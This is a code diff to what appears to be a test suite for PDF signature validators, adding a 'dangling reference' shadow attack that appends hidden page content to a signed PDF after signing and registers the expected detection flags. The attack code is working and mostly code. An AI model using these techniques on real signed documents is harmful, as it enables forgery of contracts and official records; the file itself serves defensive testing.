@@ -430,6 +430,13 @@ def shadow_document(kind: str) -> Callable[[Corpus], bytes]:
                 _text_field(writer, "giltighet", (60, 690, 460, 720), b"2026-2029", _cover(OVERLAY_TEXT))
             elif kind == "empty-invisible":
                 _text_field(writer, "giltighet", (60, 690, 460, 720))
+            elif kind == "dangling":
+                # Page 1 also draws object N, which does not exist yet: nothing shows when signed.
+                _, page = _page(writer, 0)
+                number = int(writer.prev.trailer_view["/Size"]) + 50
+                page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"),
+                                                         generic.IndirectObject(number, 0, writer)])
+                writer.update_container(page)
             elif kind == "unused-content":
                 writer.add_object(_stream(b"BT /F1 12 Tf 72 700 Td (" + HIDDEN_TEXT + b") Tj ET"))
             elif kind == "font":
@@ -566,6 +573,23 @@ def hide_and_replace_references(corpus: Corpus) -> bytes:
         page["/Contents"] = generic.IndirectObject(hidden, 0, writer)
         writer.update_container(page)
     return update(signed, edit)
+
+
+def hide_and_replace_dangling(corpus: Corpus) -> bytes:
+    """Hide-and-replace through a reference to an object that did not exist when signed: defining it later
+    changes the page without redefining any signed object."""
+    shadow = shadow_document("dangling")(corpus)
+    signed = victim_signs(lambda _corpus: shadow)(corpus)
+    reader = PdfFileReader(io.BytesIO(shadow), strict=False)
+    page = reader.root["/Pages"].raw_get("/Kids").raw_get(0).get_object()
+    number = page.raw_get("/Contents").raw_get(1).idnum
+    xref_at, _, trailer = _last_revision_objects(signed)
+    start = len(signed)
+    body = _content_object(number, HIDDEN_TEXT)
+    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, start)
+    tail = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        number + 1, trailer.raw_get("/Root").idnum, xref_at, start + len(body))
+    return signed + body + xref + tail
 
 
 def hide_and_replace_xref_only(corpus: Corpus) -> bytes:
@@ -765,6 +789,8 @@ ATTACKS: tuple[Attack, ...] = (
            pdfsig_flags=True),
     Attack("shadow-hide-and-replace-references", "Shadow hide-and-replace v1", hide_and_replace_references,
            frozenset({"page_changed"}), pdfsig_flags=True),
+    Attack("shadow-hide-and-replace-dangling", "Shadow hide-and-replace", hide_and_replace_dangling,
+           frozenset({"dangling_reference"}), pdfsig_flags=True, refused_at_signing="dangling"),
     Attack("shadow-hide-and-replace-xref-only", "Shadow hide-and-replace v2", hide_and_replace_xref_only,
            frozenset({"structure"}), pdfsig_flags=True, refused_at_signing="free-shadow"),
     # S&P 2021 – certification attacks
